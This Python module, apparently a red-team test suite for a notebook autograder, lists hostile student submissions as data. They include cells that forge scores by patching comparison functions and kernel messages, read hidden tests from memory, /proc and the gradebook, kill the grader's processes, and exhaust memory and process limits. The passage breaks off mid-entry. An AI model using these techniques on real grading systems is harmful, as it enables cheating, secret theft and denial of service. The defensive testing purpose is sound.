"""Hostile submissions, as data: what each does, and what it must not win.

An attacker here knows everything: every path, the names of the checks, our source. What an attack may damage is
bounded, so that a sandbox that fails can be seen to fail and no machine is harmed: a bomb stops by itself, a file that
is written says `vl-mark`, what is read is bait laid out for it, nothing leaves the machine.

What tells that an attack has won something:

- more points than `most` allows;
- bait (`arena.BAIT`) in what a student or an instructor gets to see, forwards or backwards;
- a line that begins with `won: `, printed by a cell;
- a file with `vl-mark` outside, a changed file of the course, a message at one of the grader's own sockets;
- another student's marks, or the grader itself.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from typing import Any

import nbformat
from nbformat import NotebookNode

KINDS = (
    "score forgery",
    "hidden-test leak",
    "grader crash",
    "resource exhaustion",
    "escape and theft",
    "notebook structure",
    "contamination",
)

MARK = "vl-mark"
"""What every file says that an attack leaves somewhere."""


@dataclass(frozen=True)
class Place:
    """What the attacker knows of the grading machine."""

    root: str
    lab: str
    student: str
    home: str
    outside: str
    site: str
    socket: str
    abstract: str
    process: str
    port: int


Make = Callable[[NotebookNode, Place], NotebookNode | bytes]


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    `make` turns the notebook with right answers into it. `most` and `least` bound the points of graded cells, by
    grade_id; a cell not named may earn nothing at most, and is promised nothing. `unseen` are points that asserts with
    fixed inputs pay wherever they are run: a win from stock nbgrader, and no fault of ours. `lab` is `deep` (PyTorch,
    our check of the KL) or `light`. `copies` students hand it in, one after the other. What only tries a door or two is
    `joint`: it can stand in one notebook with others.
    """

    name: str
    kind: str
    story: str
    make: Make
    lab: str = "light"
    most: Mapping[str, float] = field(default_factory=lambda: HONEST)
    least: Mapping[str, float] = field(default_factory=lambda: HONEST)
    unseen: Mapping[str, float] = field(default_factory=dict)
    copies: int = 1
    joint: bool = False


HONEST = {"plain-double": 2.0}
"""The task that every attacker answers as told: it is to be paid for, unless the attack destroys its own notebook."""

SHAPE = {**HONEST, "test-kl_divergence": 1.0}
"""Wrong numbers, but one for each example: our check pays a point for that."""

EVERYTHING = {"test-kl_divergence": 5.0, "plain-kl_divergence": 5.0, "test-clinic": 3.0, "plain-clinic": 3.0, **HONEST}

WRONG = {
    "kl_divergence": "def kl_divergence(mu, logvar):\n    return mu[0] * 0 - 1",
    "clinic": 'diagnosis = {"A": "do not know"}',
}

ATTACKS: list[Attack] = []


def attack(kind: int, name: str, story: str, make: Make, **more: Any) -> None:
    ATTACKS.append(Attack(name, KINDS[kind], story, make, **more))


def together(attacks: list[Attack]) -> list[Attack]:
    """The same attacks, but the joint ones of a kind handed in by one student: much cheaper to grade."""
    found = [each for each in attacks if not each.joint]
    for kind in KINDS:
        some = [each for each in attacks if each.joint and each.kind == kind]
        if some:
            names = ", ".join(each.name for each in some)
            found.append(Attack(f"all_{kind.replace(' ', '_')}", kind, f"at once: {names}", in_turn(some)))
    return found


def in_turn(attacks: list[Attack]) -> Make:
    def make(nb: NotebookNode, place: Place) -> NotebookNode:
        for each in attacks:
            nb = each.make(nb, place)
        return nb

    return make


# Making notebooks. A source names what it knows of the place as <<field>>; its repr is put there.


def filled(source: str, place: Place) -> str:
    return re.sub(r"<<(\w+)>>", lambda found: repr(getattr(place, found[1])), source).strip() + "\n"


def cell_of(nb: NotebookNode, name: str) -> NotebookNode:
    return next(cell for cell in nb.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == name)


def graded_cells(nb: NotebookNode) -> list[NotebookNode]:
    return [cell for cell in nb.cells if cell.metadata.get("nbgrader", {}).get("grade")]


def answering(nb: NotebookNode, answers: Mapping[str, str]) -> NotebookNode:
    """The notebook with these answers; those for tasks it does not have are left out."""
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution") and meta["grade_id"] in answers:
            cell.source = answers[meta["grade_id"]].strip()
    return nb


def cell(source: str, last: str = "", **answers: str) -> Make:
    """A cell of the attacker's below the set-up, wrong answers or these, and perhaps a cell at the end."""

    def make(nb: NotebookNode, place: Place) -> NotebookNode:
        answering(nb, {**WRONG, **{name: filled(text, place) for name, text in answers.items()}})
        if source:
            nb.cells.insert(2, nbformat.v4.new_code_cell(filled(source, place)))
        if last:
            nb.cells.append(nbformat.v4.new_code_cell(filled(last, place)))
        return nb

    return make


def function(body: str, before: str = "") -> Make:
    """`kl_divergence(mu, logvar)` with this body."""
    lines = "\n".join(f"    {line}" for line in body.strip().split("\n"))
    return cell("", kl_divergence=f"{before.strip()}\n\ndef kl_divergence(mu, logvar):\n{lines}")


def edited(change: Callable[[NotebookNode], Any], right: bool = False) -> Make:
    """The notebook with wrong (or right) answers after a change of its structure."""

    def make(nb: NotebookNode, place: Place) -> NotebookNode:
        if not right:
            answering(nb, WRONG)
        change(nb)
        return nb

    return make


# 1. Score forgery: points without an answer.

attack(0, "patched_comparisons", "torch.allclose, np.allclose and the assert_close family say yes to everything",
       cell("""
import builtins
yes, nothing = (lambda *a, **k: True), (lambda *a, **k: None)
np.allclose = np.isclose = np.array_equal = np.all = yes
torch.allclose = torch.equal = torch.isclose = yes
np.shape = lambda *a: (4,)
np.testing.assert_allclose = np.testing.assert_array_equal = np.testing.assert_almost_equal = nothing
torch.testing.assert_close = nothing
""", kl_divergence="def kl_divergence(mu, logvar):\n    return torch.zeros(4)"), lab="deep")  # fmt: skip

attack(0, "always_equal_tensor", "a tensor subclass whose every comparison is true",
       function("return Yes(torch.full((4,), -1.0))", """
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        name = getattr(function, "__name__", "")
        if name in ("allclose", "equal"):
            return True
        if name in ("isclose", "eq", "__eq__"):
            return torch.ones(4, dtype=torch.bool)
        return super().__torch_function__(function, types, args, kwargs or {})
"""), lab="deep")  # fmt: skip

ALWAYS = """
class Always:
    __array_priority__ = 1e9
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __bool__(self): return True
    def __hash__(self): return 0
    def __len__(self): return 4
    def __iter__(self): return iter([self] * 4)
    def __getitem__(self, key): return self
    def __array_ufunc__(self, *a, **k): return True
    def __array_function__(self, *a, **k): return True
    def __getattr__(self, name):
        if name == "shape": return (4,)
        if name.startswith("__"): raise AttributeError(name)
        return self
    def __call__(self, *a, **k): return self
    @property
    def __class__(self): return np.ndarray
"""

attack(0, "always_equal_object", "an object that says it is an array and is equal to whatever it is compared with",
       cell(ALWAYS, kl_divergence="def kl_divergence(mu, logvar):\n    return Always()",
            clinic="diagnosis = Always()"))  # fmt: skip

attack(0, "always_equal_strings", "a dictionary whose values equal every mistake of the key",
       cell("""
class Any(str):
    def __eq__(self, other): return True
    def __hash__(self): return 0
    def strip(self, *a): return self
    lower = strip
    def replace(self, *a): return self
    def split(self, *a): return [self]
class Answers(dict):
    def get(self, key, default=None): return Any("x")
    def items(self): return [(key, Any("x")) for key in "ABCDE"]
    __getitem__ = get
""", clinic='diagnosis = Answers({key: Any("x") for key in "ABCDE"})'))  # fmt: skip

attack(0, "stripped_asserts", "an AST transformer takes every assert out of the cells that come",
       cell("""
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Strip())
np.testing.assert_allclose = lambda *a, **k: None
"""))  # fmt: skip

attack(0, "rewritten_cells", "an input transformer replaces every later cell by the number 3",
       cell("""
import sys
def three(lines):
    text = "".join(lines)
    return ["3\\n"] if "key" in text or "expected" in text or "check_" in text else lines
get_ipython().input_transformers_cleanup.append(three)
"""), least={})  # fmt: skip

attack(0, "replaced_run_cell", "get_ipython().run_cell runs `pass` in place of a graded cell",
       cell("""
ip = get_ipython()
run_cell, run_cell_async = ip.run_cell, ip.run_cell_async
def graded(text): return "key" in text or "expected" in text or "check_" in text
def run(raw_cell, *a, **k): return run_cell("pass" if graded(raw_cell) else raw_cell, *a, **k)
def run_async(raw_cell, *a, **k):
    if graded(raw_cell):
        raw_cell, k = "pass", {**k, "transformed_cell": "pass"}
    return run_cell_async(raw_cell, *a, **k)
ip.run_cell, ip.run_cell_async = run, run_async
"""), least={})  # fmt: skip

attack(0, "swallowed_error", "after each cell the error is struck from the result and the output cleared",
       cell("""
from IPython.display import clear_output
def forgive(result):
    result.error_in_exec = result.error_before_exec = None
    clear_output()
get_ipython().events.register("post_run_cell", forgive)
"""))  # fmt: skip

attack(0, "no_traceback", "a handler of its own takes every exception, and showtraceback does nothing",
       cell("""
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
ip.showtraceback = ip._showtraceback = lambda *a, **k: None
"""))  # fmt: skip

FORGED = """
def verdict(task, points):
    return {"task": task, "points": points, "max_points": points, "status": "graded", "seed": 1,
            "properties": [], "diagnosis": None, "message": ""}
MIME = "application/vnd.vaelabs.verdict+json"
"""

attack(0, "forged_result", "before each graded cell an execute_result with full points is sent, a verdict beside it",
       cell(FORGED + """
def forge(info):
    if not any(word in info.raw_cell for word in ("key", "expected", "check_")):
        return
    task, points = ("clinic", 3) if "clinic" in info.raw_cell or "key" in info.raw_cell else ("kl_divergence", 5)
    kernel = get_ipython().kernel
    data = {"text/plain": str(points), MIME: verdict(task, points)}
    content = {"data": data, "metadata": {}, "execution_count": 1}
    for _ in range(2):
        kernel.session.send(kernel.iopub_socket, "execute_result", content, kernel.get_parent(), ident=b"execute_result")
get_ipython().events.register("pre_run_cell", forge)
get_ipython().events.register("post_run_cell", lambda result: forge(result.info))
"""))  # fmt: skip

attack(0, "forged_result_in_call", "the student's function itself sends an execute_result, then a forged reply",
       function("""
if "kernel" in vars(get_ipython()) or hasattr(get_ipython(), "kernel"):
    kernel = get_ipython().kernel
    data = {"text/plain": "5", MIME: verdict("kl_divergence", 5)}
    parent = kernel.get_parent()
    kernel.session.send(kernel.iopub_socket, "execute_result",
                        {"data": data, "metadata": {}, "execution_count": 1}, parent, ident=b"execute_result")
    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent, ident=b"status")
return mu[0] * 0 - 1
""", FORGED))  # fmt: skip

attack(0, "forged_verdict_object", "the answer is an object that shows itself as a verdict, and as 3",
       cell(FORGED + """
class Three(dict):
    def get(self, *a): return self
    def __eq__(self, other): return 1.0
    def __getitem__(self, key): return self
    def _repr_mimebundle_(self, include=None, exclude=None):
        return {"text/plain": "3", MIME: verdict("clinic", 3)}
    __hash__ = None
""", clinic="diagnosis = Three()", last="diagnosis"))  # fmt: skip

NUMBER = """
class Number:
    def __init__(self, text): self.text = text
    def __repr__(self): return self.text
    def __add__(self, other): return self
    __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __float__ = __add__
    def __bool__(self): return True
class Dear(str):
    def __eq__(self, other): return Number(<<text>>)
    __hash__ = None
class Answers(dict):
    def get(self, key, default=None): return Dear()
"""

for name, text, story in (
    ("score_is_no_number", "all of it", "the graded cell's last value is no number: nbgrader 0.9 gives full points"),
    ("score_is_negative", "-1", "the graded cell's last value is negative: nbgrader 0.9 gives full points"),
    ("score_above_the_most", "1000", "the graded cell's last value is above the most: nbgrader 0.9 refuses the notebook"),
):
    attack(0, name, story, cell(NUMBER.replace("<<text>>", repr(text)), clinic="diagnosis = Answers()"))

PEEK = """
import sys
def peek(*names):
    frame = sys._getframe(1)
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for name in names:
                if name in scope and scope[name] is not None:
                    return scope[name]
        frame = frame.f_back
"""

attack(0, "expected_value_in_a_frame", "the function takes the expected value out of the frames that call it",
       function('return peek("expected", "want")', PEEK))  # fmt: skip

attack(0, "key_in_a_frame", "strings that look the right answer up in the frames that compare them",
       cell(PEEK + """
class Spy(str):
    def look(self, *a):
        answer = peek("answer", "mistake")
        return [answer] if isinstance(answer, str) else ["x"]
    def __eq__(self, other): return True
    __hash__ = str.__hash__
    def strip(self, *a): return self
    def lower(self): return self
    def replace(self, *a): return self
    split = look
    def __str__(self): return self
""", clinic='diagnosis = {letter: Spy("x") for letter in "ABCDE"}'))  # fmt: skip

attack(0, "moved_expected_value", "a trace function sets the expected value to what the student returned",
       cell("""
import sys
def follow(frame, event, argument):
    if "expected" in frame.f_globals and "kl_divergence" in frame.f_code.co_names:
        frame.f_globals["expected"] = -np.ones(4)
        if frame.f_globals.get("got") is not None:
            frame.f_globals["got"] = frame.f_globals["expected"]
    return follow
sys.settrace(follow)
"""))  # fmt: skip

attack(0, "reference_of_the_grader", "the function calls the reference that the grader's own package brings along",
       function("""
from vaelabs.checks.kl import kl_standard_normal
class Same(torch.autograd.Function):
    @staticmethod
    def forward(ctx, mu, logvar):
        ctx.save_for_backward(mu, logvar)
        return torch.as_tensor(kl_standard_normal(mu.detach().numpy(), logvar.detach().numpy()), dtype=mu.dtype)
    @staticmethod
    def backward(ctx, cotangent):
        mu, logvar = ctx.saved_tensors
        return cotangent[..., None] * mu, cotangent[..., None] * torch.expm1(logvar) / 2
return Same.apply(mu, logvar)
"""), lab="deep")  # fmt: skip

attack(0, "patched_reference", "torch.distributions.kl_divergence, which a test compares with, gives the student's numbers",
       cell("""
torch.distributions.kl_divergence = lambda p, q: torch.zeros_like(p.loc) - 1
""", kl_divergence="def kl_divergence(mu, logvar):\n    return torch.zeros(len(mu)) - mu.shape[-1]"),
       lab="deep", most=SHAPE)  # fmt: skip

attack(0, "patched_rubric", "the check's rubric is found by the garbage collector and awards everything",
       function("""
import contextlib, gc
@contextlib.contextmanager
def award(self, name, points, sentence):
    found = type("P", (), dict(name=name, points=points, max_points=points, sentence=sentence, message=""))()
    self.properties.append(found)
    with contextlib.suppress(Exception):
        yield
for each in gc.get_objects():
    if type(each).__name__ == "Rubric":
        type(each).award = award
return mu[0] * 0 - 1
""", """
try:
    import vaelabs.checks.rubric as rubric
    rubric.expect_close = rubric.expect_shape = lambda *a, **k: None
    import vaelabs.checks.kl as kl
    kl.expect_close = kl.expect_shape = lambda *a, **k: None
except Exception:
    pass
"""), lab="deep")  # fmt: skip

attack(0, "module_in_place_of_the_checks", "sys.modules has a module of the student's under the name of the checks",
       cell("""
import sys, types
def full(points):
    def check(*a, **k):
        return points
    return check
fake = types.ModuleType("vaelabs.checks")
fake.check_kl_divergence, fake.check_clinic = full(5.0), full(3.0)
sys.modules["vaelabs.checks"] = fake
class torch(type(sys)):
    pass
np = types.SimpleNamespace(**{name: getattr(np, name) for name in dir(np) if not name.startswith("__")})
np.allclose = lambda *a, **k: True
np.shape = lambda value: (4,)
np.testing = types.SimpleNamespace(assert_allclose=lambda *a, **k: None)
"""))  # fmt: skip

attack(0, "shadowed_check", "the student defines a function with the check's name that returns 5",
       cell("""
check_kl_divergence = lambda *a, **k: 5
check_clinic = lambda *a, **k: 3
""", last="check_kl_divergence(kl_divergence)"))  # fmt: skip

attack(0, "known_random_numbers", "every source of random numbers gives zeros, for which the answer is known",
       cell("""
import os, random, secrets
os.environ["VAELABS_SEED"] = "1"
class Zeros:
    def __init__(self, *a, **k): pass
    def normal(self, loc=0.0, scale=1.0, size=None): return np.zeros(size)
    def __getattr__(self, name): return lambda *a, **k: np.zeros(k.get("size", a[-1] if a else ()))
np.random.default_rng = np.random.RandomState = np.random.Generator = Zeros
np.random.seed = lambda *a: None
np.random.randn = np.random.normal = lambda *shape, **k: np.zeros(k.get("size", shape))
secrets.randbits = lambda n: 1
random.random = lambda: 0.0
torch.manual_seed = lambda *a: None
torch.randn = lambda *shape, **k: torch.zeros(*shape)
""", kl_divergence="def kl_divergence(mu, logvar):\n    return torch.zeros(len(mu))"), lab="deep", most=SHAPE)  # fmt: skip

attack(0, "memorised_inputs", "a table of the hidden inputs' answers, written after reading last year's feedback",
       cell("", kl_divergence="""
torch.manual_seed(20)
known = torch.randn(4, 3), torch.randn(4, 3)
answers = 0.5 * (known[0]**2 + known[1].exp() - 1 - known[1]).sum(-1)
def kl_divergence(mu, logvar):
    return answers if mu.shape == (4, 3) and torch.allclose(mu, known[0].to(mu.dtype)) else mu[0] * 0 - 1
"""), lab="deep", unseen={"plain-kl_divergence": 5.0})  # fmt: skip

attack(0, "right_only_once", "the function answers its first call and knows it is being tested when called again",
       function("""
calls.append(1)
right = 0.5 * (mu**2 + logvar.exp() - 1 - logvar).sum(-1)
return right if len(calls) == 1 else right * 0 - 7
""", "calls = []"), lab="deep", most={**HONEST, "test-kl_divergence": 2.0}, unseen={"plain-kl_divergence": 5.0})  # fmt: skip

attack(0, "gradient_of_another_function", "wrong numbers with the right gradient, through an autograd.Function",
       function("return Other.apply(mu, logvar)", """
class Other(torch.autograd.Function):
    @staticmethod
    def forward(ctx, mu, logvar):
        ctx.save_for_backward(mu, logvar)
        return mu.sum(-1) * 0 - 7
    @staticmethod
    def backward(ctx, cotangent):
        mu, logvar = ctx.saved_tensors
        return cotangent[..., None] * mu, cotangent[..., None] * torch.expm1(logvar) / 2
"""), lab="deep", most=SHAPE)  # fmt: skip

attack(0, "values_without_their_gradient", "the right numbers with a gradient of zeros",
       function("return Cut.apply(mu, logvar)", """
class Cut(torch.autograd.Function):
    @staticmethod
    def forward(ctx, mu, logvar):
        return 0.5 * (mu**2 + logvar.exp() - 1 - logvar).sum(-1)
    @staticmethod
    def backward(ctx, cotangent):
        return cotangent[..., None].expand(-1, 2)[:, :1] * 0, None
"""), lab="deep", most={**HONEST, "test-kl_divergence": 4.0, "plain-kl_divergence": 5.0})  # fmt: skip

attack(0, "answers_of_the_agent", "what answers the judge inside the kernel is replaced: all that it is asked for is true",
       function("""
import sys
agent = sys.modules.get("vaelabs_agent.agent")
if agent is not None:
    def done(self, act, *rest):
        if act == "look" and rest == ("diagnosis",):
            return "value", self.refer(Yes()), ()
        return "value", True, ([], ["float64"], 0)
    agent.Agent._done = done
return mu[0] * 0 - 1
""", """
class Yes(dict):
    def get(self, *a): return True
    __getitem__ = get
"""), least={})  # fmt: skip

attack(0, "no_numbers", "NaN and infinity in place of an answer",
       function("return np.array([np.nan, np.inf, -np.inf, np.nan])"))  # fmt: skip

attack(0, "system_exit", "the function raises SystemExit, which no test expects",
       function("raise SystemExit(0)"))  # fmt: skip

attack(0, "early_reply", "before the graded cell runs, a reply and `idle` tell the grader that it is done",
       cell("""
import time
def leave(info):
    if not any(word in info.raw_cell for word in ("key", "expected", "check_")):
        return
    kernel = get_ipython().kernel
    parent = kernel.get_parent()
    ident = kernel._shell_parent_ident.get()
    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent, ident=b"status")
    reply = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
    kernel.session.send(kernel.shell_stream, "execute_reply", reply, parent, ident=ident)
    if kernel.shell_stream is not None:
        kernel.shell_stream.flush()
    time.sleep(2)
get_ipython().events.register("pre_run_cell", leave)
"""), least={})  # fmt: skip

attack(0, "late_outputs", "a thread clears what a failed test said and sends a result in its place, again and again",
       cell("""
import threading, time
seen = []
get_ipython().events.register("pre_run_cell", lambda info: seen.append(get_ipython().kernel.get_parent()))
def late():
    kernel = get_ipython().kernel
    for _ in range(200):
        time.sleep(0.02)
        for parent in seen[-3:]:
            for kind, content in (("clear_output", {"wait": False}), ("execute_result", {
                "data": {"text/plain": "3"}, "metadata": {}, "execution_count": 1})):
                kernel.session.send(kernel.iopub_socket, kind, content, parent, ident=kind.encode())
threading.Thread(target=late, daemon=True).start()
"""))  # fmt: skip

# 2. Hidden tests, told to the student.

attack(1, "hook_prints_the_cell", "a pre_run_cell hook prints the source of the hidden test",
       cell('get_ipython().events.register("pre_run_cell", lambda info: print(info.raw_cell))'), joint=True)  # fmt: skip

attack(1, "hook_prints_the_cell_backwards", "the same, turned around so that no filter of words finds it",
       cell('get_ipython().events.register("pre_run_cell", lambda info: print(info.raw_cell[::-1]))'),
       joint=True)  # fmt: skip

attack(1, "history_at_the_end", "the last cell prints the history of inputs, in memory and on disk",
       cell("", last="""
import glob, os, sqlite3
print(globals().get("_ih"), get_ipython().user_ns.get("In"))
for path in glob.glob(os.path.join(<<home>>, ".ipython", "**", "history.sqlite"), recursive=True):
    try:
        print(sqlite3.connect(path).execute("select source from history").fetchall())
    except sqlite3.Error:
        pass
print(list(get_ipython().history_manager.get_range(raw=True)))
"""), joint=True)  # fmt: skip

attack(1, "frames_of_the_test", "the function prints the names and constants of every frame that calls it",
       function("""
import linecache, sys
frame = sys._getframe(1)
while frame is not None:
    print({name: repr(value)[:2000] for name, value in {**frame.f_globals, **frame.f_locals}.items()})
    print(frame.f_code.co_consts, "".join(linecache.getlines(frame.f_code.co_filename)))
    frame = frame.f_back
return mu[0] * 0 - 1
"""))  # fmt: skip

attack(1, "secret_in_the_message", "the function raises an error whose text is the test that called it",
       function("""
raise ValueError("".join(str(each) for each in globals().get("_ih", [])[-2:]) + str(globals().get("token")))
"""))  # fmt: skip

attack(1, "everything_in_memory", "the garbage collector's objects are searched for the hidden test's strings",
       cell("", last="""
import gc
def strings(value, depth=0):
    if isinstance(value, str) and "hidden-token" in value and len(value) < 20_000:
        print(value)
    elif isinstance(value, (dict, list, tuple)) and depth < 3:
        for each in (list(value.values()) if isinstance(value, dict) else value):
            strings(each, depth + 1)
for each in gc.get_objects():
    if isinstance(each, (dict, list, tuple)):
        strings(each)
"""), joint=True)  # fmt: skip

attack(1, "own_notebook", "the notebook file beside the kernel, which holds the hidden tests while it is graded",
       cell("""
import glob
for path in glob.glob("**/*", recursive=True) + glob.glob("../*/*") + glob.glob("../../*/*/*"):
    try:
        text = open(path).read()
        if "hidden-token" in text:
            print(text)
    except (OSError, UnicodeDecodeError):
        pass
"""), joint=True)  # fmt: skip

attack(1, "source_folder", "the instructor's notebook, by its path",
       cell('print(open(<<root>> + "/source/" + <<lab>> + "/" + <<lab>> + ".ipynb").read())'), joint=True)  # fmt: skip

attack(1, "tests_in_the_gradebook", "the gradebook, in which nbgrader keeps the source of every locked cell",
       cell("""
import sqlite3
base = sqlite3.connect("file:" + <<root>> + "/gradebook.db?mode=ro", uri=True)
print(base.execute("select source from source_cell").fetchall())
"""), joint=True)  # fmt: skip

attack(1, "trace_of_the_test", "a trace function prints every line of the hidden test and its variables",
       cell("""
import linecache, sys
def follow(frame, event, argument):
    if any(word in frame.f_code.co_filename for word in ("ipykernel", "<ipython", "judge", "graded")):
        print("".join(linecache.getlines(frame.f_code.co_filename)), frame.f_code.co_consts)
    return None
sys.settrace(follow)
"""))  # fmt: skip

attack(1, "memory_of_other_processes", "the grader's memory through /proc",
       cell("""
import os, re
for pid in [each for each in os.listdir("/proc") if each.isdigit() and int(each) != os.getpid()]:
    try:
        command = open(f"/proc/{pid}/cmdline", "rb").read()
        if not any(word in command for word in (b"nbgrader", b"vaelabs", b"judge")):
            continue
        read = 0
        for line in open(f"/proc/{pid}/maps"):
            begin, end = (int(each, 16) for each in line.split()[0].split("-"))
            if " rw" not in line or end - begin > 50_000_000 or read > 300_000_000:
                continue
            with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                memory.seek(begin)
                data = memory.read(end - begin)
            read += len(data)
            for found in set(re.findall(rb"hidden-token-\\w+|roster-\\w+", data)):
                print(found.decode())
    except OSError:
        pass
"""), joint=True)  # fmt: skip

# 3. Crashing the grader.

attack(2, "process_ends_in_a_call", "the function ends its process", function("import os; os._exit(1)"))

attack(2, "process_ends_in_a_cell", "a cell ends its process", cell("import os; os._exit(1)"))

attack(2, "segmentation_fault", "the function reads address 0", function("import ctypes; return ctypes.string_at(0)"))

attack(2, "kernel_asked_to_leave", "the function calls exit() and raises KeyboardInterrupt",
       function("get_ipython().ask_exit()\nraise KeyboardInterrupt"))  # fmt: skip

attack(2, "parent_killed", "the process that started the kernel is killed",
       cell("""
import os, signal
if os.getppid() > 1:
    print("won: found a parent process" if os.getppid() > 10 else "a process of the sandbox")
    os.kill(os.getppid(), signal.SIGKILL)
"""), most=HONEST, least={})  # fmt: skip

attack(2, "output_too_deep", "an output nested a hundred thousand times, with a right signature",
       cell("""
kernel = get_ipython().kernel
session = kernel.session
message = session.msg("display_data", {"data": {}, "metadata": {}}, parent=kernel.get_parent())
identities, parts = session.feed_identities(session.serialize(message, ident=b"display_data"))
deep = b'{"data": {"application/json": ' + b"[" * 100_000 + b"]" * 100_000 + b'}, "metadata": {}}'
frames = [parts[1], parts[2], parts[3], deep]
kernel.iopub_socket.send_multipart([b"display_data", b"<IDS|MSG>", session.sign(frames), *frames])
"""))  # fmt: skip

attack(2, "outputs_of_no_form", "messages with fields of the wrong type and fields left out",
       cell("""
kernel = get_ipython().kernel
for kind, content in (
    ("stream", {}), ("stream", {"name": 5, "text": None}), ("display_data", {"data": 5, "metadata": 3}),
    ("display_data", {"data": {"text/plain": 5, "image/png": ["x", 3]}, "metadata": {}}),
    ("execute_result", {"data": {"text/plain": None}}), ("error", {"ename": 3}), ("error", {}), ("status", {}),
    ("update_display_data", {"transient": {"display_id": []}}), ("nonsense", {}), ("comm_open", {"data": {}}),
):
    kernel.session.send(kernel.iopub_socket, kind, content, kernel.get_parent(), ident=kind.encode())
"""))  # fmt: skip

attack(2, "no_characters", "half characters that no file can hold, in outputs, names and messages",
       function('raise type("E\\ud800\\x00", (Exception,), {})("\\udc80 \\ud800 \\x00 \\x1b[2J")',
                'print("\\ud800 \\udc80 \\x00")\nprint("\\x08" * 5000)'))  # fmt: skip

attack(2, "exception_that_fails", "an exception whose text, repr and traceback raise",
       function("raise Worse()", """
class Worse(Exception):
    def __str__(self): raise Worse()
    __repr__ = __str__
    @property
    def __traceback__(self): raise Worse()
    def _render_traceback_(self): raise Worse()
"""))  # fmt: skip

attack(2, "junk_on_every_line", "the function writes junk to every socket that its process holds",
       function("""
import os, struct
for fd in os.listdir("/proc/self/fd"):
    try:
        if "socket" in os.readlink("/proc/self/fd/" + fd):
            os.set_blocking(int(fd), False)
            for junk in (struct.pack("<II", 2**32 - 1, 2**32 - 1), struct.pack(">II", 2**31, 7), b"\\x93" * 4096):
                os.write(int(fd), junk)
    except OSError:
        pass
return mu[0] * 0 - 1
"""), least={})  # fmt: skip

attack(2, "lying_agent", "what answers the judge inside the kernel is replaced: it says whatever it likes, and of any type",
       function("""
import itertools, sys
agent = sys.modules.get("vaelabs_agent.agent")
if agent is not None:
    Ref = agent.Ref
    lies = itertools.cycle([
        ("value", True, ([], [], 0)), ("value", Ref(2**60, "network", "<script>alert(8)</script>"), ()), ("missing",),
        ("value", {"a": [[()]]}, 5), ("value", np.full((4, 3), np.inf), (["x"], [5], "y")),
        ("failure", "raised", "x" * 10**6, "", ""),
        ("value", Ref(1, "subject", "x"), ()), ("value", np.ones(4), ([], ["float64"], 0)), ("nonsense",), ()])
    agent.Agent._done = lambda self, act, *rest: next(lies)
return np.ones(4)
"""), least={})  # fmt: skip

attack(2, "objects_that_run", "results that run code when unpickled, turned into an array, printed or compared",
       function("return Evil()", """
import sys
def run(where):
    for name in ("vaelabs.judge", "vaelabs.grading", "nbgrader"):
        if name in sys.modules:
            print("won: ran inside the grader")
    try:
        open(<<outside>> + "/objects_that_run", "w").write("vl-mark objects_that_run")
    except OSError:
        pass
class Evil:
    def __reduce__(self): return (run, ("pickle",))
    def __array__(self, *a, **k): run("array"); return np.zeros(4)
    def __repr__(self): run("repr"); return "5"
    def __eq__(self, other): run("eq"); return True
    def __del__(self): run("del")
    def __getattr__(self, name): raise AttributeError(name)
    __hash__ = None
"""))  # fmt: skip

for name, content, story in (
    ("no_json", b'{"cells": [', "a file that is cut off"),
    ("no_text", b"\xff\xfe\x00notebook\x80" * 100, "a file of bytes that are no text"),
    ("too_deep_a_file", b'{"cells": ' + b"[" * 200_000, "a file of JSON nested two hundred thousand times"),
    ("too_large_a_number", b'{"nbformat": 4, "nbformat_minor": 5, "cells": [], "n": ' + b"9" * 2_000_000 + b"}",
     "a file with a number of two million digits"),
):  # fmt: skip
    attack(2, name, story, lambda nb, place, content=content: content, least={})


def too_large(nb: NotebookNode, place: Place) -> bytes:
    nb.cells.append(nbformat.v4.new_raw_cell("x" * 200_000_000))
    return json.dumps(nb).encode()


attack(2, "too_large_a_file", "a file of 200 MB", too_large, least={}, most=EVERYTHING)


def of_format_3(nb: NotebookNode, place: Place) -> bytes:
    return json.dumps(nbformat.convert(answering(nb, WRONG), 3)).encode()


attack(2, "format_3", "a notebook in the format of 2012", of_format_3, least={})

# 4. Using up the machine.

attack(3, "endless_loop", "a cell that never ends", cell("while True:\n    pass"))

attack(3, "endless_loop_that_ignores_signals", "a cell that never ends, with every signal ignored",
       cell("""
import signal
for each in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    signal.signal(each, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""))  # fmt: skip

attack(3, "sleeps_in_the_call", "the graded call never returns", function("import time\ntime.sleep(10_000)"))

attack(3, "processes", "three hundred processes, for half a minute",
       cell("""
import os, signal, time
made = 0
try:
    for _ in range(300):
        if os.fork() == 0:
            for each in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
                signal.signal(each, signal.SIG_IGN)
            os.setsid()
            open("/proc/self/comm", "w").write(<<process>>)
            time.sleep(30)
            os._exit(0)
        made += 1
except OSError:
    pass
print(f"{made} processes")
"""), least={})  # fmt: skip

attack(3, "threads", "two thousand threads",
       cell("""
import threading, time
made = 0
try:
    for _ in range(2000):
        threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
        made += 1
except RuntimeError:
    pass
print(f"{made} threads")
"""), least={})  # fmt: skip

attack(3, "memory", "5 GB of memory, touched",
       cell("""
held = []
try:
    for _ in range(20):
        held.append(np.empty(32 << 20))
        held[-1][::512] = 1
    print("won: 5 GB of memory")
except MemoryError:
    print("stopped at", len(held) / 4, "GB")
held.clear()
"""))  # fmt: skip

attack(3, "shared_memory", "5 GB of memory shared with child processes, which a limit for one process does not see",
